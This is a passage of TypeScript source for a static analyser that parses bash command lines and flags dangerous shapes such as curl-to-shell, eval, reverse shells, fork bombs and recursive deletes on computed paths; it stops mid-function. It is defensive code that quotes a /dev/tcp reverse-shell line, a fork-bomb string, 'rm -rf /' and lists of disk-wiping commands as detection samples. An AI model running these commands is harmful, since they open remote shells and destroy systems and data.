// Static analysis of a bash command line with a real parser (unbash): every simple command that
// could run — inside chains, pipelines, subshells, groups, control flow, $(...), backticks, process
// substitutions, here-strings/heredocs fed to a shell, `bash -c '...'`, `find -exec`, `xargs`,
// behind wrappers like sudo/env/timeout — normalised for the rules, plus "findings" for what cannot
// be known statically (computed command names, eval, curl|sh, decode|sh, ...). It never runs
// anything and never guesses a dynamic value: unknown stays unknown, and the gate fails closed on it.
import { forEachChild, type ParsedScript, parse, type Redirection, type SyntaxNode, type Word } from 'unbash';
import type { Finding, FindingKind, ShellAnalysis, ShellRedirect, SimpleCommand } from './analysis-types.js';
import { commandEffects, isReadOnly } from './command-effects.js';
import { parseOptions } from './command-options.js';
import { resolvePath } from './path-normalise.js';
import {
  classifyCommands,
  DESTROYERS,
  DOWNLOADERS,
  globCandidates,
  isForkBomb,
  parseKill,
  spawnsForever,
  untrusted,
} from './shell-shapes.js';
import { evalWord, type StaticWord, type WordEnv } from './shell-words.js';
import { decodeEscapes, interpreterKind, SHELLS, splitWrapper } from './wrappers.js';

export interface AnalyzeOptions {
  /** Home directory `~` and `$HOME` stand for (default /root: the daemon runs as root). */
  home?: string;
  /** Working directory the command starts in, when known. */
  cwd?: string;
  /** Nesting limit for `bash -c`, eval and friends. */
  maxDepth?: number;
}

interface Scope extends WordEnv {
  /** Functions defined earlier in the line (name → body), analysed again at each call with its arguments. */
  functions: Map<string, SyntaxNode>;
  /** Aliases defined earlier in the line (name → text). */
  aliases: Map<string, string>;
  /** False after a `cd` that may have failed (`cd X; …`): the directory is X or the old one. */
  cwdSure?: boolean;
  /** A `cd` ran in the current && / || chain and its success is not yet established. */
  pendingCd?: boolean;
}

type Stdin =
  | { kind: 'pipe'; stages: SyntaxNode[] }
  | { kind: 'text'; word: StaticWord }
  | { kind: 'heredoc'; text: string }
  | { kind: 'file'; word: StaticWord };

interface Ctx {
  scope: Scope;
  wrappers: string[];
  depth: number;
  src: string;
  stdin?: Stdin | undefined;
  /** Inside a branch or loop body, or after && / ||: assignments here may not happen. */
  conditional?: boolean;
}

const MAX_COMMANDS = 2000;
const MAX_VISITS = 50_000;

export function analyzeShell(source: string, opts: AnalyzeOptions = {}): ShellAnalysis {
  const a = new Analyzer(opts.maxDepth ?? 8);
  const scope: Scope = {
    vars: new Map(),
    home: opts.home ?? '/root',
    cwd: opts.cwd,
    functions: new Map(),
    aliases: new Map(),
  };
  a.runSource(source, { scope, wrappers: [], depth: 0, src: source });
  // `:(){:|:&};:` does not even parse (bash needs a blank after `{`), yet shells that accept it
  // fork-bomb: recognise the shape in the text when the parser gave up.
  if (
    a.findings.some((f) => f.kind === 'parse-error') &&
    /([^\s(){}|&;]+)\s*\(\s*\)\s*\{\s*\1\s*\|\s*\1\s*&/.test(source)
  ) {
    a.finding('fork-bomb', 'a function that pipes itself into itself in the background', source);
  }
  // Code read from a descriptor that a /dev/tcp redirect opened comes from the network.
  if (a.netSocket && a.findings.some((f) => f.kind === 'stdin-shell')) {
    a.finding('download-exec', 'a shell reads code from a /dev/tcp or /dev/udp socket', source);
  }
  return { source, commands: a.commands, findings: a.findings };
}

class Analyzer {
  commands: SimpleCommand[] = [];
  findings: Finding[] = [];
  /** A redirect opened a /dev/tcp or /dev/udp socket somewhere in the line. */
  netSocket = false;
  /** Files this command line writes before it may run them: echoed text, a download, or unknown. */
  written = new Map<string, { text: string } | 'download' | 'unknown'>();

  constructor(
    readonly maxDepth: number,
    /** Nodes left to visit, shared with helper analysers: bounds the work on hostile input. */
    readonly budget: { left: number } = { left: MAX_VISITS },
    /** Download/decode classification of substitution scripts, shared likewise. */
    readonly classified: WeakMap<ParsedScript, FindingKind | null> = new WeakMap(),
  ) {}

  child(): Analyzer {
    return new Analyzer(this.maxDepth, this.budget, this.classified);
  }

  finding(kind: FindingKind, detail: string, raw: string): void {
    if (!this.findings.some((f) => f.kind === kind && f.raw === raw))
      this.findings.push({ kind, detail, raw });
  }

  runSource(source: string, ctx: Ctx): void {
    if (ctx.depth > this.maxDepth) {
      this.finding('too-deep', `nested more than ${this.maxDepth} levels`, source);
      return;
    }
    const script = parse(source);
    this.visit(script, { ...ctx, src: source });
  }

  visit(node: SyntaxNode, ctx: Ctx): void {
    if (this.commands.length > MAX_COMMANDS || --this.budget.left < 0) {
      this.finding('too-deep', 'too large or too deeply nested to analyse', '');
      return;
    }
    switch (node.type) {
      case 'Script': {
        const script = node as ParsedScript;
        const src = script.source ?? ctx.src;
        for (const e of script.errors ?? []) this.finding('parse-error', e.message, src);
        for (const st of script.commands) this.visit(st, { ...ctx, src });
        return;
      }
      case 'Statement':
        this.visit(node.command, ctx);
        return;
      case 'AndOr': {
        node.commands.forEach((c, i) => {
          const op = i > 0 ? node.operators[i - 1] : undefined;
          if (op && ctx.scope.pendingCd) {
            // `cd X && …` runs only in X; `cd X || exit; …` too. Otherwise it stays uncertain.
            const next = c.type === 'Command' ? c.name?.value : undefined;
            if (op === '&&' || (op === '||' && (next === 'exit' || next === 'return'))) {
              ctx.scope.cwdSure = true;
              ctx.scope.pendingCd = false;
            }
          }
          this.visit(c, i > 0 ? { ...ctx, conditional: true } : ctx);
        });
        return;
      }
      case 'While':
        if (spawnsForever(node)) {
          this.finding('fork-bomb', 'an endless loop starting background processes', slice(ctx.src, node));
        }
        forEachChild(node, (child) => this.visit(child, { ...ctx, conditional: true }));
        return;
      case 'If':
      case 'For':
      case 'Case':
      case 'Select':
      case 'ArithmeticFor':
        forEachChild(node, (child) => this.visit(child, { ...ctx, conditional: true }));
        return;
      case 'Pipeline': {
        node.commands.forEach((stage, i) => {
          const stages = node.commands.slice(0, i);
          this.visit(stage, {
            ...ctx,
            scope: copyScope(ctx.scope),
            stdin: i > 0 ? { kind: 'pipe', stages } : ctx.stdin,
          });
        });
        return;
      }
      case 'Subshell':
        this.visit(node.body, { ...ctx, scope: copyScope(ctx.scope) });
        return;
      case 'Command':
        this.command(node, ctx);
        return;
      case 'Redirected': {
        const redirects = this.redirects(node.redirects, ctx);
        if (redirects.some((r) => r.write)) this.push(':', [], redirects, ctx, slice(ctx.src, node), {});
        for (const r of node.redirects) this.visitNested(r, ctx);
        this.visit(node.command, { ...ctx, stdin: stdinFromRedirects(node.redirects, ctx) ?? ctx.stdin });
        return;
      }
      case 'Function':
        ctx.scope.functions.set(node.name.value, node.body);
        if (isForkBomb(node.name.value, node.body)) {
          this.finding(
            'fork-bomb',
            `function ${node.name.value} calls itself in a pipe or background`,
            slice(ctx.src, node),
          );
        }
        this.visit(node.body, ctx);
        return;
      default:
        forEachChild(node, (child) => this.visit(child, ctx));
    }
  }

  /** Visit substitutions nested in a word or redirect (their commands run too). */
  visitNested(node: SyntaxNode, ctx: Ctx): void {
    forEachChild(node, (child) => {
      if (child.type === 'Script')
        this.visit(child, { ...ctx, scope: copyScope(ctx.scope), stdin: undefined });
      else this.visitNested(child, ctx);
    });
  }

  command(cmd: SyntaxNode & { type: 'Command' }, ctx: Ctx): void {
    const raw = slice(ctx.src, cmd);
    for (const p of cmd.prefix) this.visitNested(p, ctx);
    for (const s of cmd.suffix) this.visitNested(s, ctx);
    if (cmd.name) this.visitNested(cmd.name, ctx);

    const redirects = this.redirects(cmd.redirects, ctx);
    const stdin = stdinFromRedirects(cmd.redirects, ctx) ?? ctx.stdin;
    const assigns: Record<string, string> = {};
    for (const p of cmd.prefix) {
      if (p.type !== 'Assignment') continue;
      let value: string | null = null;
      if (p.value.type === 'Word') {
        const ev = evalWord(p.value, ctx.scope);
        if (ev.length === 1 && ev[0] && !ev[0].dynamic) value = ev[0].value;
      }
      // An assignment that may not run (a branch, a loop, after && / ||) leaves the value unknown.
      if (!cmd.name) ctx.scope.vars.set(p.name, ctx.conditional ? null : value);
      else if (value !== null) assigns[p.name] = value;
    }
    if (!cmd.name) {
      if (redirects.length > 0) this.push(':', [], redirects, ctx, raw, {});
      return;
    }
    const words: StaticWord[] = [];
    for (const w of [cmd.name, ...cmd.args]) {
      if (w.type === 'Assignment') {
        // `alias x='…'`, `export A=b`, `declare -r X=1`: an argument shaped NAME=VALUE.
        const [v] = w.value.type === 'Word' ? evalWord(w.value, ctx.scope) : [];
        words.push(
          v
            ? {
                ...v,
                value: `${w.name}=${v.value}`,
                text: w.text,
                dynamicAt: v.dynamic ? w.name.length + 1 + v.dynamicAt : -1,
              }
            : { ...plain(w.text), dynamic: true, dynamicAt: 0 },
        );
        continue;
      }
      for (const ev of evalWord(w as Word, ctx.scope)) {
        // Unquoted expansions are split on whitespace, as bash does: `a="rm -rf /"; $a` is three words.
        if (ev.split && /\s/.test(ev.value)) {
          for (const part of ev.value.split(/\s+/).filter(Boolean))
            words.push({ ...ev, value: part, text: ev.text });
        } else words.push(ev);
      }
    }
    this.words(words, redirects, { ...ctx, stdin }, raw);
  }

  redirects(list: readonly Redirection[], ctx: Ctx): ShellRedirect[] {
    const out: ShellRedirect[] = [];
    for (const r of list) {
      if (r.type !== 'Redirect' || !r.target) continue;
      const [t] = evalWord(r.target, ctx.scope);
      if (!t) continue;
      const fdDup = (r.operator === '>&' || r.operator === '<&') && /^(\d+|-)$/.test(t.value);
      if (/^\/dev\/(tcp|udp)\//.test(t.value)) this.netSocket = true;
      const write = !fdDup && ['>', '>>', '>|', '&>', '&>>', '<>', '>&'].includes(r.operator);
      out.push({
        op: r.operator,
        target: t.dynamic ? t.value : resolvePath(t.value, ctx.scope.cwd),
        dynamic: t.dynamic,
        write,
      });
    }
    return out;
  }

  /** Analyse one command given as evaluated words: strip wrappers, recurse into shells, record it. */
  words(input: StaticWord[], redirects: ShellRedirect[], ctx: Ctx, raw: string): void {
    let words = input;
    const wrappers = [...ctx.wrappers];
    let cwd = ctx.scope.cwd;
    for (let guard = 0; guard < 32; guard++) {
      const first = words[0];
      if (!first) {
        if (redirects.length > 0) this.push(':', [], redirects, { ...ctx, wrappers }, raw, {});
        return;
      }
      if (first.dynamic) {
        const kind = classifyScripts(first.scripts, this);
        this.finding(kind ?? 'dynamic-command', `command name is computed: ${first.text}`, raw);
        return;
      }
      if (first.indirect) this.finding('indirect-command', `command name comes from ${first.text}`, raw);
      const name = basename(first.value);
      if (first.glob) {
        this.finding('dynamic-command', `command name is a glob: ${first.text}`, raw);
        for (const guess of globCandidates(name)) {
          this.words(
            [{ ...first, value: guess, glob: false }, ...words.slice(1)],
            redirects,
            { ...ctx, wrappers },
            raw,
          );
        }
        return;
      }
      if (first.value.includes('/') && this.runWritten(first.value, 'exec', { ...ctx, wrappers }, raw)) {
        this.record(name, words.slice(1), redirects, { ...ctx, wrappers, scope: { ...ctx.scope, cwd } }, raw);
        return;
      }
      const alias = ctx.scope.aliases.get(first.value);
      if (alias !== undefined && !first.text.startsWith('\\') && guard === 0) {
        this.runSource([alias, ...words.slice(1).map((w) => quote(w.value))].join(' '), {
          ...ctx,
          wrappers: [...wrappers, `alias ${first.value}`],
          depth: ctx.depth + 1,
        });
        return;
      }
      const body = ctx.scope.functions.get(first.value);
      if (body && ctx.depth < this.maxDepth) {
        // A call: the body runs with $1.. bound to these arguments (it was analysed unbound when defined).
        const scope = copyScope(ctx.scope);
        words.slice(1).forEach((w, k) => {
          scope.vars.set(String(k + 1), w.dynamic ? null : w.value);
        });
        scope.functions.delete(first.value);
        this.visit(body, {
          ...ctx,
          scope,
          wrappers: [...wrappers, `function ${first.value}`],
          depth: ctx.depth + 1,
        });
      }
      if (name === 'alias') {
        for (const w of words.slice(1)) {
          const eq = w.value.indexOf('=');
          if (eq > 0 && !w.dynamic) ctx.scope.aliases.set(w.value.slice(0, eq), w.value.slice(eq + 1));
        }
      }
      const values = words.map((w) => w.value);
      const wrap = splitWrapper(name, values);
      if (wrap) {
        wrappers.push(wrap.label);
        if (wrap.cwd !== undefined) cwd = resolvePath(wrap.cwd, cwd);
        if (wrap.script !== undefined) {
          const scriptWord = words[wrap.scriptIndex ?? -1];
          if (scriptWord?.dynamic) {
            const kind = classifyScripts(scriptWord.scripts, this);
            this.finding(kind ?? 'dynamic-command', `${wrap.label} runs a computed string`, raw);
            return;
          }
          this.runSource(wrap.script, {
            ...ctx,
            scope: { ...copyScope(ctx.scope), cwd },
            wrappers,
            depth: ctx.depth + 1,
            stdin: undefined,
          });
          return;
        }
        if (wrap.xargs) {
          this.xargs(
            words.slice(wrap.rest),
            wrap.replace,
            redirects,
            { ...ctx, wrappers, scope: { ...ctx.scope, cwd } },
            raw,
          );
          return;
        }
        words = words.slice(wrap.rest);
        continue;
      }
      if (
        (name === 'su' ||
          name === 'runuser' ||
          ((name === 'sudo' || name === 'doas') && words.some((w) => /^-[a-zA-Z]*[si]$/.test(w.value)))) &&
        ctx.stdin &&
        !splitWrapper(
          name,
          words.map((w) => w.value),
        )
      ) {
        // `… | sudo -s`, `… | su`: a login shell reading its commands from stdin.
        this.record(name, words.slice(1), redirects, { ...ctx, wrappers, scope: { ...ctx.scope, cwd } }, raw);
        this.stdinCode(name, { ...ctx, wrappers, scope: { ...ctx.scope, cwd } }, raw, true);
        return;
      }
      if (SHELLS.has(name)) {
        this.shell(name, words, redirects, { ...ctx, wrappers, scope: { ...ctx.scope, cwd } }, raw);
        return;
      }
      const interp = interpreterKind(name);
      if (interp)
        this.interpreter(name, interp, words, { ...ctx, wrappers, scope: { ...ctx.scope, cwd } }, raw);
      if (name === 'eval') {
        this.evalCommand(words.slice(1), { ...ctx, wrappers, scope: { ...ctx.scope, cwd } }, raw);
        return;
      }
      if (name === 'source' || name === '.') {
        const file = words[1];
        if (!(file && !file.dynamic && this.runWritten(file.value, name, { ...ctx, wrappers }, raw))) {
          this.source(words.slice(1), ctx.scope.home, raw);
        }
      }
      if (name === 'at' || name === 'batch') {
        // at/batch read shell commands from stdin (or -f FILE) and run them later.
        const file = words.findIndex((w) => w.value === '-f');
        const f = file >= 0 ? words[file + 1] : undefined;
        if (f && !f.dynamic) {
          if (
            !this.runWritten(f.value, name, { ...ctx, wrappers }, raw) &&
            untrusted(f.value, ctx.scope.home)
          ) {
            this.finding('source-untrusted', `${name} runs ${f.value}`, raw);
          }
        } else this.stdinCode(name, { ...ctx, wrappers, scope: { ...ctx.scope, cwd } }, raw, true);
      }
      if (name === 'crontab') this.crontabStdin(words, { ...ctx, wrappers }, raw);
      if (name === 'parallel') {
        // GNU parallel: `parallel CMD ::: ARG…` runs CMD once per argument ({} stands for it).
        const sep = words.findIndex((w) => w.value === ':::' || w.value === '::::');
        const cmdWords = words
          .slice(1, sep < 0 ? words.length : sep)
          .filter((w, k) => k > 0 || !w.value.startsWith('-'));
        const items = sep < 0 ? [] : words.slice(sep + 1).filter((w) => !w.value.startsWith(':::'));
        if (cmdWords.length > 0 && sep >= 0) {
          for (const item of items.slice(0, 16)) {
            const hasSlot = cmdWords.some((w) => w.value.includes('{}'));
            const run = hasSlot
              ? cmdWords.map((w) =>
                  w.value.includes('{}')
                    ? {
                        ...w,
                        value: w.value.split('{}').join(item.value),
                        dynamic: w.dynamic || item.dynamic,
                      }
                    : w,
                )
              : [...cmdWords, item];
            this.words(run, [], { ...ctx, wrappers: [...wrappers, 'parallel'] }, raw);
          }
        } else if (cmdWords.length > 0) {
          // Arguments come from stdin: like xargs.
          this.xargs(cmdWords, undefined, [], { ...ctx, wrappers: [...wrappers, 'parallel'] }, raw);
        }
      }
      if (name === 'find') {
        this.find(words, redirects, { ...ctx, wrappers, scope: { ...ctx.scope, cwd } }, raw);
        return;
      }
      if (name === 'cd' || name === 'pushd') {
        const target = words[1];
        if (!target) ctx.scope.cwd = ctx.scope.home;
        else if (target.dynamic || target.guessed || target.value === '-') ctx.scope.cwd = undefined;
        else ctx.scope.cwd = resolvePath(target.value, cwd);
        ctx.scope.cwdSure = false;
        ctx.scope.pendingCd = true;
      }
      this.record(name, words.slice(1), redirects, { ...ctx, wrappers, scope: { ...ctx.scope, cwd } }, raw);
      return;
    }
    this.finding('too-deep', 'too many nested wrappers', raw);
  }

  record(name: string, rest: StaticWord[], redirects: ShellRedirect[], ctx: Ctx, raw: string): void {
    const argv = rest.map((w) => w.value);
    this.push(name, argv, redirects, ctx, raw, {
      dynamicArgs: rest.filter((w) => w.dynamic).map((w) => w.text),
      globArgs: rest.filter((w) => w.glob).map((w) => w.value),
      rest,
    });
  }

  push(
    name: string,
    argv: string[],
    redirects: ShellRedirect[],
    ctx: Ctx,
    raw: string,
    extra: { dynamicArgs?: string[]; globArgs?: string[]; rest?: StaticWord[] },
  ): void {
    const parsed = name === 'kill' ? parseKill(argv) : parseOptions(name, argv);
    const fx = commandEffects(name, parsed, argv);
    const cwd = ctx.scope.cwd;
    const resolve = (list: string[]) => list.map((p) => resolvePath(p, cwd));
    const writes = [...resolve(fx.writes), ...redirects.filter((r) => r.write).map((r) => r.target)];
    const reads = [...resolve(fx.reads), ...redirects.filter((r) => r.op === '<').map((r) => r.target)];
    const quietRedirect = (r: ShellRedirect) =>
      /^\/dev\/(null|stdout|stderr|tty)$/.test(r.target) || !r.write;
    const cmd: SimpleCommand = {
      name,
      argv,
      args: parsed.operands,
      flags: [...parsed.flags].sort(),
      options: parsed.options,
      raw,
      redirects,
      wrappers: ctx.wrappers,
      targets: resolve(fx.targets),
      writes,
      reads,
      dynamicArgs: extra.dynamicArgs ?? [],
      globArgs: extra.globArgs ?? [],
      readOnly: isReadOnly(name, parsed, argv) && redirects.every(quietRedirect),
      ...(cwd !== undefined ? { cwd } : {}),
    };
    this.commands.push(cmd);
    this.checkTargets(cmd, extra.rest ?? [], ctx, raw);
    this.noteWrites(cmd, redirects);
  }

  /** Remember what this command writes, so running that file later is analysed (or flagged). */
  noteWrites(cmd: SimpleCommand, redirects: ShellRedirect[]): void {
    const download = DOWNLOADERS.has(cmd.name);
    for (const path of cmd.writes) if (download) this.written.set(path, 'download');
    // `curl -O URL` and `wget URL` save under the URL's last path segment in the working directory.
    const remoteName =
      (cmd.name === 'curl' && cmd.flags.some((f) => f === 'O' || f === 'remote-name')) ||
      (cmd.name === 'wget' && cmd.options['output-document'] === undefined);
    if (remoteName) {
      for (const url of cmd.args) {
        const m = /^[a-z]+:\/\/[^/]+\/(?:.*\/)?([^/?#]+)/i.exec(url);
        if (m?.[1]) this.written.set(resolvePath(m[1], cmd.cwd), 'download');
      }
    }
    for (const r of redirects) {
      if (!r.write || r.dynamic) continue;
      if (download) this.written.set(r.target, 'download');
      else if (cmd.name === 'echo' || cmd.name === 'printf') {
        const text =
          cmd.name === 'printf'
            ? decodeEscapes(cmd.argv.join(' '))
            : cmd.argv.filter((a) => !/^-[neE]+$/.test(a)).join(' ');
        const prev = this.written.get(r.target);
        const before = r.op === '>>' && typeof prev === 'object' ? `${prev.text}\n` : '';
        this.written.set(r.target, { text: before + text });
      } else if (!this.written.has(r.target) || r.op !== '>>') this.written.set(r.target, 'unknown');
    }
  }

  /** An interpreter running a file this line downloaded or wrote (its language is not shell). */
  runWrittenInterp(path: string, label: string, ctx: Ctx, raw: string): void {
    const entry = this.written.get(resolvePath(path, ctx.scope.cwd));
    if (entry === 'download')
      this.finding('download-exec', `${label} runs ${path}, downloaded by this command line`, raw);
    else if (entry)
      this.finding('source-untrusted', `${label} runs ${path}, written by this command line`, raw);
  }

  /** Running a file this same line wrote: analyse its text, or flag it. Returns true when handled. */
  runWritten(path: string, label: string, ctx: Ctx, raw: string): boolean {
    const entry = this.written.get(resolvePath(path, ctx.scope.cwd));
    if (!entry) return false;
    if (entry === 'download')
      this.finding('download-exec', `${label} runs ${path}, downloaded by this command line`, raw);
    else if (entry === 'unknown')
      this.finding('source-untrusted', `${label} runs ${path}, written by this command line`, raw);
    else
      this.runSource(entry.text, {
        ...ctx,
        wrappers: [...ctx.wrappers, `${label} ${path}`],
        depth: ctx.depth + 1,
        stdin: undefined,
      });
    return true;
  }

  /** Destructive commands whose targets are computed or relative to an unknown directory. */
  checkTargets(cmd: SimpleCommand, rest: StaticWord[], ctx: Ctx, raw: string): void {
    const destructive =
      (cmd.name === 'rm' && cmd.flags.includes('recursive')) ||
      (/^(chmod|chown|chgrp)$/.test(cmd.name) && cmd.flags.includes('recursive')) ||
      /^(shred|wipefs|mkfs.*|dd|mke2fs|blkdiscard)$/.test(cmd.name);
    if (!destructive) return;
    for (const word of rest) {
      let w = word;
      if (cmd.name === 'dd') {
        if (!w.value.startsWith('of=')) continue;
        w = { ...w, value: w.value.slice(3), dynamicAt: w.dynamicAt - 3 };
      }
      if (w.guessed && !w.dynamic) {
        this.finding(
          'dynamic-target',
          `${cmd.name} acts on a default that the environment may override: ${w.text}`,
          raw,
        );
      } else if (w.dynamic) {
        const prefix = w.value.slice(0, w.dynamicAt);
        const dir = prefix.slice(0, prefix.lastIndexOf('/') + 1);
        const safe =
          /^\/(tmp|var\/tmp)\//.test(dir) ||
          dir.split('/').filter(Boolean).length >= 2 ||
          /^[^/$]/.test(prefix);
        if (!safe) this.finding('dynamic-target', `${cmd.name} acts on a computed path: ${w.text}`, raw);
      } else if (
        (ctx.scope.cwd === undefined || ctx.scope.cwdSure === false) &&
        !/^(chmod|chown|chgrp)$/.test(cmd.name) &&
        /^(\.|\.\.|\*|\.\*|\.\/\*|\.\.\/\*|\.\/?)$/.test(w.value)
      ) {
        this.finding('dynamic-target', `${cmd.name} ${w.value} in an unknown directory`, raw);
      }
    }
  }

  shell(name: string, words: StaticWord[], redirects: ShellRedirect[], ctx: Ctx, raw: string): void {
    if (redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target))) {
      // `bash -i >& /dev/tcp/host/port 0>&1`: a shell wired to a network socket (a reverse shell).
      this.finding('download-exec', `${name} is wired to a network socket`, raw);
    }
    let cflag = false;
    let stdinFlag = false;
    let i = 1;
    for (; i < words.length; i++) {
      const w = words[i]?.value ?? '';
      if (w === '--' || w === '-') {
        i++;
        break;
      }
      if (/^[-+][oO]$/.test(w) || w === '--rcfile' || w === '--init-file') {
        i++;
        continue;
      }
      if (w.startsWith('--')) continue;
      if (/^[-+][a-zA-Z]+$/.test(w)) {
        if (w.startsWith('-') && w.includes('c')) cflag = true;
        if (w.startsWith('-') && w.includes('s')) stdinFlag = true;
        continue;
      }
      break;
    }
    const label = `${name}${cflag ? ' -c' : ''}`;
    if (cflag) {
      const script = words[i];
      if (!script) return;
      if (script.dynamic) {
        const kind = classifyScripts(script.scripts, this);
        this.finding(kind ?? 'dynamic-command', `${name} -c runs a computed string`, raw);
        return;
      }
      const scope = copyScope(ctx.scope);
      words.slice(i + 1).forEach((w, k) => {
        scope.vars.set(String(k), w.dynamic ? null : w.value);
      });
      this.runSource(script.value, {
        ...ctx,
        scope,
        wrappers: [...ctx.wrappers, label],
        depth: ctx.depth + 1,
        stdin: undefined,
      });
      return;
    }
    const operand = stdinFlag ? undefined : words[i];
    const stdinPath = operand && /^(\/dev\/stdin|\/dev\/fd\/\d+|\/proc\/self\/fd\/\d+)$/.test(operand.value);
    if (stdinPath && !ctx.stdin) {
      this.finding('stdin-shell', `${name} runs ${operand.value}`, raw);
      return;
    }
    if (operand && !stdinPath) {
      if (!operand.dynamic && this.runWritten(operand.value, name, ctx, raw)) {
        this.record(name, words.slice(1), redirects, ctx, raw);
        return;
      }
      if (operand.procsub || operand.dynamic) {
        const kind = classifyScripts(operand.scripts, this);
        this.finding(
          kind ?? 'source-untrusted',
          `${name} runs a script produced at run time: ${operand.text}`,
          raw,
        );
        return;
      }
      this.record(name, words.slice(1), redirects, ctx, raw);
      return;
    }
    this.record(name, words.slice(1), redirects, ctx, raw);
    this.stdinCode(name, ctx, raw, true);
  }

  /** A shell or interpreter reads its program from stdin: analyse what feeds it. */
  stdinCode(name: string, ctx: Ctx, raw: string, isShell: boolean): void {
    const stdin = ctx.stdin;
    const inner = {
      ...ctx,
      wrappers: [...ctx.wrappers, `${name} (stdin)`],
      depth: ctx.depth + 1,
      stdin: undefined,
    };
    if (!stdin) return; // an interactive shell: nothing to analyse
    if (stdin.kind === 'pipe') {
      const probe = this.probe(stdin.stages, ctx);
      if (probe) {
        this.finding(
          probe,
          `${name} runs code from ${probe === 'download-exec' ? 'the network' : 'a decoder'}`,
          raw,
        );
        return;
      }
      const text = isShell ? echoedText(stdin.stages, ctx) : undefined;
      if (text !== undefined) {
        for (const t of text) this.runSource(t, inner);
        return;
      }
      this.finding('stdin-shell', `${name} runs code piped in from another command`, raw);
      return;
    }
    if (stdin.kind === 'text' || stdin.kind === 'file') {
      if (stdin.word.dynamic || stdin.word.procsub) {
        const kind = classifyScripts(stdin.word.scripts, this);
        this.finding(kind ?? 'stdin-shell', `${name} runs code computed at run time`, raw);
        return;
      }
      if (stdin.kind === 'text' && isShell) this.runSource(stdin.word.value, inner);
      else if (stdin.kind === 'file' && untrusted(stdin.word.value, ctx.scope.home)) {
        this.finding('source-untrusted', `${name} runs ${stdin.word.value}`, raw);
      }
      return;
    }
    if (isShell) this.runSource(stdin.text, inner);
    else this.finding('stdin-shell', `${name} runs code from a here-document`, raw);
  }

  /** `echo '* * * * * CMD' | crontab -`: analyse each CMD the new crontab would run. */
  crontabStdin(words: StaticWord[], ctx: Ctx, raw: string): void {
    const operands = words.slice(1).filter((w) => !w.value.startsWith('-') || w.value === '-');
    if (operands.some((w) => w.value !== '-') || words.some((w) => /^-[lre]$/.test(w.value))) return;
    const stdin = ctx.stdin;
    let text: string[] | undefined;
    if (stdin?.kind === 'pipe') text = echoedText(stdin.stages, ctx);
    else if (stdin?.kind === 'text' && !stdin.word.dynamic) text = [stdin.word.value];
    else if (stdin?.kind === 'heredoc') text = [stdin.text];
    const inner = { ...ctx, wrappers: [...ctx.wrappers, 'crontab'], depth: ctx.depth + 1, stdin: undefined };
    for (const t of text ?? []) {
      for (const line of t.split('\n')) {
        const m = /^\s*(?:@\w+|(?:\S+\s+){5})(.*)$/.exec(line);
        if (m?.[1] && !line.trim().startsWith('#') && !/^\s*\w+=/.test(line)) this.runSource(m[1], inner);
      }
    }
    void raw;
  }

  /** Do earlier pipeline stages download or decode? (What they feed a shell cannot be known.) */
  probe(stages: SyntaxNode[], ctx: Ctx): FindingKind | undefined {
    const sub = this.child();
    for (const s of stages)
      sub.visit(s, { ...ctx, scope: copyScope(ctx.scope), stdin: undefined, wrappers: [] });
    return classifyCommands(sub.commands);
  }

  interpreter(
    name: string,
    kind: 'python' | 'perl' | 'ruby' | 'node' | 'php' | 'awk',
    words: StaticWord[],
    ctx: Ctx,
    raw: string,
  ): void {
    const codeFlag =
      kind === 'python' ? /^-[a-zA-Z]*c$/ : kind === 'php' ? /^-r$/ : /^-[a-zA-Z]*[eE]$|^--eval$|^-p$/;
    let code: StaticWord | undefined;
    let operand = false;
    for (let i = 1; i < words.length; i++) {
      const w = words[i]?.value ?? '';
      if (kind === 'awk') {
        if (w === '-f') {
          operand = true;
          break;
        }
        if (/^-[vF]$/.test(w)) {
          i++;
          continue;
        }
        if (w.startsWith('-')) continue;
        code = words[i];
        break;
      }
      if (codeFlag.test(w)) {
        code = words[i + 1];
        break;
      }
      if (w === '-m' || w === '-') {
        operand = w === '-m';
        break;
      }
      if (!w.startsWith('-')) {
        operand = true;
        const file = words[i];
        if (file && (file.procsub || file.dynamic)) {
          const k = classifyScripts(file.scripts, this);
          this.finding(
            k ?? 'source-untrusted',
            `${name} runs a script produced at run time: ${file.text}`,
            raw,
          );
        } else if (file) this.runWrittenInterp(file.value, name, ctx, raw);
        break;
      }
    }
    if (code) {
      if (code.dynamic) {
        const k = classifyScripts(code.scripts, this);
        this.finding(k ?? 'inline-code', `${name} runs computed code`, raw);
        return;
      }
      this.inlineCode(name, code.value, ctx, raw);
      return;
    }
    if (!operand && kind !== 'awk') this.stdinCode(name, ctx, raw, false);
  }

  /** Inline interpreter code that can spawn commands: analyse its string literals as shell. */
  inlineCode(name: string, code: string, ctx: Ctx, raw: string): void {
    const spawns =
      /\b(system|popen|exec[lv]?p?e?|execute|spawn|subprocess|fork|check_output|check_call|call|run|getoutput|child_process|eval|rmtree|remove_tree|unlink|remove|rmdir|shell_exec|passthru|proc_open)\b|`|\|\s*"|"\s*\|/;
    if (!spawns.test(code)) return;
    this.finding('inline-code', `${name} code can run commands or delete files`, raw);
    const inner = {
      ...ctx,
      wrappers: [...ctx.wrappers, `${name} code`],
      depth: ctx.depth + 1,
      stdin: undefined,
    };
    for (const m of code.matchAll(
      /(?:rmtree|remove_tree|rmdir|unlink|remove)\s*\(\s*(?:r?["'])([^"']+)["']/g,
    )) {
      this.runSource(`rm -rf -- '${(m[1] ?? '').replace(/'/g, '')}'`, inner);
    }
    for (const m of code.matchAll(/"((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)'|`([^`]*)`/g)) {
      const s = m[1] ?? m[2] ?? m[3] ?? '';
      if (/\s/.test(s) || /^[a-z]/.test(s)) this.runSource(s, inner);
    }
    for (const m of code.matchAll(/\[\s*((?:["'][^"']*["']\s*,?\s*)+)\]/g)) {
      const argv = [...(m[1] ?? '').matchAll(/["']([^"']*)["']/g)].map((x) => x[1] ?? '');
      if (argv.length > 1) this.runSource(argv.map((a) => `'${a.replace(/'/g, '')}'`).join(' '), inner);
    }
  }

  evalCommand(args: StaticWord[], ctx: Ctx, raw: string): void {
    const dynamic = args.filter((w) => w.dynamic);
    if (dynamic.length > 0) {
      const kind = classifyScripts(
        dynamic.flatMap((w) => w.scripts),
        this,
      );
      this.finding(kind ?? 'eval', 'eval of a computed string', raw);
      return;
    }
    this.finding('eval', 'eval re-parses its arguments', raw);
    this.runSource(args.map((w) => w.value).join(' '), {
      ...ctx,
      wrappers: [...ctx.wrappers, 'eval'],
      depth: ctx.depth + 1,
    });
  }

  source(args: StaticWord[], home: string, raw: string): void {
    const file = args[0];
    if (!file) return;
    if (file.dynamic || file.procsub) {
      const kind = classifyScripts(file.scripts, this);
